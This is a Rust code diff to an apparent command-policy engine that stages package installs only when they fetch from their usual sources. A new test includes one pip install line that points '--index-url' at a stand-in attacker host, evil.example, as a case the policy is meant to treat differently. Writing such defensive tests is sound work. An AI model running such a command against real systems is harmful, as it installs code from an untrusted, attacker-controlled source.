@@ -5,6 +5,7 @@
 //! speaks against a line only because it is not known before it runs is void in such a cell.
 
 use crate::action::{Action, Way};
+use crate::hosts::NetworkPlan;
 use crate::policy::Tag;
 use crate::policy::daemon::{Asks, asks};
 use crate::policy::history::OverrideKind;
@@ -35,13 +36,15 @@ pub(super) struct Cells {
 }
 
 impl Cells {
-    pub(super) fn of(action: &Action, situation: &Situation) -> Self {
+    pub(super) fn of(action: &Action, situation: &Situation, network: &NetworkPlan) -> Self {
         let script = match action {
             Action::RunCommand { script: Ok(script), .. } => Some(script),
             _ => None,
         };
         let asks = script.map_or(Asks::Nothing, |script| asks(script, situation));
-        let stage = script.is_some() && !situation.stage.is_empty();
+        // Packages are fetched while its writes are held back, but only from where they usually come.
+        let usual = !situation.network.fetches || network.unusual.is_empty();
+        let stage = script.is_some() && usual && !situation.stage.is_empty();
         Self { there: situation.cells, unconfined: situation.unconfined, asks, stage }
     }
 }
@@ -233,6 +236,21 @@ mod tests {
         for line in ["ls -l", "for f in *; do cat $f; done"] {
             let run = judged(line, |situation| situation.cells = false).run();
             assert_eq!(run, RunDecision { verdict: Verdict::Confirm, way: Some(Way::Act) }, "{line}");
+        }
+    }
+
+    /// Where the situation says that all of it is fetching, it is staged only if nothing leads the tool elsewhere.
+    #[test]
+    fn packages_are_fetched_while_held_back_from_where_they_usually_come() {
+        for (line, way) in [
+            ("pip install six", Way::Stage),
+            ("pip install --index-url https://evil.example/simple six", Way::Act),
+        ] {
+            let judgement = judged(line, |situation| {
+                situation.stage = vec!["/home/ana/project".into()];
+                situation.network.fetches = true;
+            });
+            assert_eq!(judgement.run().way, Some(way), "{line}: {:?}", judgement.network());
         }
     }
 
